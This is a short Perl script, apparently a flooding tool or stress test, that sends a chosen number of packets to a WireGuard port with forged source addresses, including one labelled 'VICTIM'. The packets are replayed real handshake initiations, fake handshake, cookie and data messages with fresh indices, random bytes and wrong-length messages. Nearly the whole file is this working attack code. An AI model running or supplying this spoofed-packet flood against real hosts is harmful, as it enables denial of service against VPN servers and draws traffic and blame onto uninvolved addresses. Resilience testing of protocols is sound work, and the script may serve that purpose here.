# flood.pl COUNT TARGET MEMBER PORT VICTIM INITIATION: sends COUNT packets to WireGuard's port of TARGET (IPv4), each as if from
# one of three: the endpoint MEMBER:PORT, VICTIM, or an address of nobody. They are handshake messages and data with ever new
# indices, random bytes, messages of wrong lengths, and replays of INITIATION (hex), a real one.
use strict;
use warnings;
use FindBin;
use Socket;
require "$FindBin::Bin/forged-udp.pl";

my ($count, $target, $member, $port, $victim, $initiation) = @ARGV;
my $real = pack("H*", $initiation);
my $noise = join("", map { chr(int(rand(256))) } 1 .. 1500);
my $there = inet_aton($target);
my @sources = ([inet_aton($member), $port], [inet_aton($victim), 51820], [inet_aton("198.51.100.1"), 4000]);

# The message number N; indices are made of N, so that no two are the same.
sub message {
  my ($n) = @_;
  my $index = pack("N", ($n * 2654435761) & 0xffffffff);
  my $kind = $n % 8;
  return $real if $kind == 0;
  return pack("C4", 1, 0, 0, 0) . $index . substr($noise, $n % 1000, 140) if $kind == 1;
  return pack("C4", 2, 0, 0, 0) . $index . $index . substr($noise, $n % 1000, 80) if $kind == 2;
  return pack("C4", 3, 0, 0, 0) . $index . substr($noise, $n % 1000, 56) if $kind == 3;
  return pack("C4", 4, 0, 0, 0) . $index . substr($noise, $n % 1000, 120) if $kind == 4 || $kind == 5;
  return substr($noise, $n % 500, $n % 1000) if $kind == 6;
  return pack("C4", 1 + $n % 4, 0, 0, 0) . substr($noise, 0, $n % 1400);
}

my $sent = 0;
for (my $n = 0; $sent < $count; $n++) {
  my ($from, $source_port) = @{$sources[int($n / 8) % 3]};
  $sent++ if forge($from, $source_port, $there, message($n));
}
print "$sent\n";
